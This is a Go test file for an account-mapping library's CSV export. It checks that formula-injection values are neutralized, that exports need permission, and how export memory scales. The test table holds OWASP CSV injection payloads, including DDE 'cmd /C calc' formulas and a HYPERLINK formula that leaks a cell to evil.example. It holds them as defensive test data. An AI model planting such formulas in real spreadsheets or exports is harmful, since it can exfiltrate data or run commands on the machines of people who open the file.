package acctmap_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/acctmap/acctmap"
)

// cellWorld is two partner orgs with n matching records each, b sharing
// its Customers (with the field "Value") to a at a record level.
type cellWorld struct {
	*world
	custA, custB acctmap.Population
}

func newCellWorld(t testing.TB, n int, value func(i int) string) *cellWorld {
	t.Helper()
	ctx := context.Background()
	w := &cellWorld{world: newWorld(t.(*testing.T))}
	partner(t.(*testing.T), w.adminA, w.adminB, "org-b", "org-a")
	w.custA, w.custB = cellSide(t, w.adminA, "a", n, value), cellSide(t, w.adminB, "b", n, value)
	if err := w.adminB.SetShareRule(ctx, w.custB.ID, "org-a", acctmap.ShareRule{Level: acctmap.OverlappingRecords, Fields: []string{"name", "Value"}}); err != nil {
		t.Fatalf("SetShareRule: %v", err)
	}
	return w
}

// cellSide makes a data source of n customers, company i at company<i>.com.
func cellSide(t testing.TB, a *acctmap.Actor, prefix string, n int, value func(i int) string) acctmap.Population {
	t.Helper()
	ctx := context.Background()
	ds, err := a.CreateDataSource(ctx, acctmap.NewDataSource{Name: "CRM", Kind: acctmap.PushedSource})
	if err != nil {
		t.Fatalf("CreateDataSource: %v", err)
	}
	in := make([]acctmap.RecordInput, n)
	for i := range in {
		in[i] = acctmap.RecordInput{ID: fmt.Sprintf("%s%06d", prefix, i), Name: fmt.Sprintf("Company %d", i),
			Website: fmt.Sprintf("company%d.com", i), Fields: map[string]string{"Stage": "Customer", "Value": value(i)}}
	}
	if _, err := a.UpsertRecords(ctx, ds.ID, in); err != nil {
		t.Fatalf("UpsertRecords: %v", err)
	}
	p, err := a.CreatePopulation(ctx, acctmap.PopulationSpec{DataSourceID: ds.ID, Kind: acctmap.Customers,
		Filter: acctmap.Filter{All: []acctmap.Condition{{Field: "Stage", Op: acctmap.Equals, Value: "Customer"}}}})
	if err != nil {
		t.Fatalf("CreatePopulation: %v", err)
	}
	return p
}

// TestExportCellsOpenSafely checks each value's cell as ExportReport
// writes it: the OWASP CSV injection cases and issue 19's examples are
// neutralized and quoted, plain numbers and phone numbers kept.
func TestExportCellsOpenSafely(t *testing.T) {
	t.Parallel()
	cases := []struct{ value, cell string }{
		// OWASP CSV injection: a leading = + - @ tab CR LF.
		{`=1+1`, `'=1+1`},
		{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`},
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{`+A1`, `'+A1`},
		{`-A1`, `'-A1`},
		{"\t=1+1", "\"'\t'=1+1\""},
		{"\r=1+1", "\"'\r'=1+1\""},
		{"\n=1+1", "\"'\n'=1+1\""},
		{`-1+"x"`, `"'-1+""x"""`},
		// A separator of another locale is quoted: ";" splits cells in
		// European Excel, and the quotes keep the value one cell; what a
		// split that ignores quotes would expose is neutralized too.
		{`Kovalent;=1+2;`, `"Kovalent;'=1+2;"`},
		{`a,b`, `"a,b"`},
		{"a\tb", "\"a\tb\""},
		{`say "hi"`, `"say ""hi"""`},
		{" padded ", `" padded "`},
		// Numbers and phone numbers stay as they are.
		{`-5`, `-5`},
		{`+3.5`, `+3.5`},
		{`-1,234.50`, `"-1,234.50"`},
		{`+3 555 0100`, `+3 555 0100`},
		{`+1 (555) 010-0100`, `+1 (555) 010-0100`},
		{`-12%`, `'-12%`}, // a percent sign is not a phone number's: neutralized
		{`-`, `'-`},
		{`+`, `'+`},
		{`Acme`, `Acme`},
		{`100`, `100`},
		{``, ``},
	}
	values := make([]string, len(cases))
	for i, c := range cases {
		values[i] = c.value
	}
	w := newCellWorld(t, len(cases), func(i int) string { return values[i] })
	var buf bytes.Buffer
	spec := acctmap.ReportSpec{Partner: "org-b", Population: w.custA.ID, PartnerPopulation: w.custB.ID,
		Columns: []string{"my.id", "partner.Value"}}
	n, err := w.adminA.ExportReport(context.Background(), spec, &buf)
	wantErr(t, "export", err, nil)
	lines := splitCSVLines(buf.String())
	if n != len(cases) || len(lines) != len(cases)+1 {
		t.Fatalf("export wrote %d rows, %d lines, want %d:\n%s", n, len(lines), len(cases), buf.String())
	}
	for i, c := range cases {
		want := fmt.Sprintf("a%06d,%s", i, c.cell)
		if lines[i+1] != want {
			t.Errorf("value %q: line %q, want %q", c.value, lines[i+1], want)
		}
	}
	// And a CSV reader reads the values back, changed by apostrophes only.
	recs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	wantErr(t, "read back", err, nil)
	for i, c := range cases {
		if got := recs[i+1][1]; strings.ReplaceAll(got, "'", "") != strings.ReplaceAll(c.value, "'", "") {
			t.Errorf("value %q read back as %q", c.value, got)
		}
	}
}

// splitCSVLines splits on line ends outside quotes.
func splitCSVLines(s string) []string {
	var lines []string
	quoted, start := false, 0
	for i := 0; i < len(s); i++ {
		switch {
		case s[i] == '"':
			quoted = !quoted
		case s[i] == '\n' && !quoted:
			lines = append(lines, s[start:i])
			start = i + 1
		}
	}
	return lines
}

// TestExportNeedsThePermission: a read-only user changes nothing, so it
// cannot export nor spend the org's quota; a partner manager needs
// ExportRecords.
func TestExportNeedsThePermission(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	w := newCellWorld(t, 3, func(int) string { return "v" })
	spec := acctmap.ReportSpec{Partner: "org-b", Population: w.custA.ID, PartnerPopulation: w.custB.ID}
	for _, a := range []*acctmap.Actor{w.readerA, w.pmData, w.pmSharing} {
		var buf bytes.Buffer
		n, err := a.ExportReport(ctx, spec, &buf)
		wantErr(t, "export without the permission", err, acctmap.ErrPermissionDenied)
		if n != 0 || buf.Len() != 0 {
			t.Errorf("a denied export wrote %d rows: %q", n, buf.String())
		}
	}
	org, err := w.net.Org(ctx, "org-a")
	wantErr(t, "org", err, nil)
	if org.ExportedRecords != 0 {
		t.Errorf("denied exports spent %d of the quota", org.ExportedRecords)
	}
	n, err := w.pmAll.ExportReport(ctx, spec, io.Discard)
	wantErr(t, "export with the permission", err, nil)
	if diff := cmp.Diff(3, n); diff != "" {
		t.Errorf("rows (-want +got):\n%s", diff)
	}
}

// BenchmarkExportReport exports whole cells of growing size to
// io.Discard, through the public API: B/op shows how memory grows with
// the cell.
func BenchmarkExportReport(b *testing.B) {
	ctx := context.Background()
	for _, n := range []int{10_000, 100_000} {
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			c := newBenchCell(b, n)
			spec := c.spec()
			b.ReportAllocs()
			for b.Loop() {
				rows, err := c.a.ExportReport(ctx, spec, io.Discard)
				if err != nil || rows != n {
					b.Fatalf("export: %d rows, %v", rows, err)
				}
			}
		})
	}
}
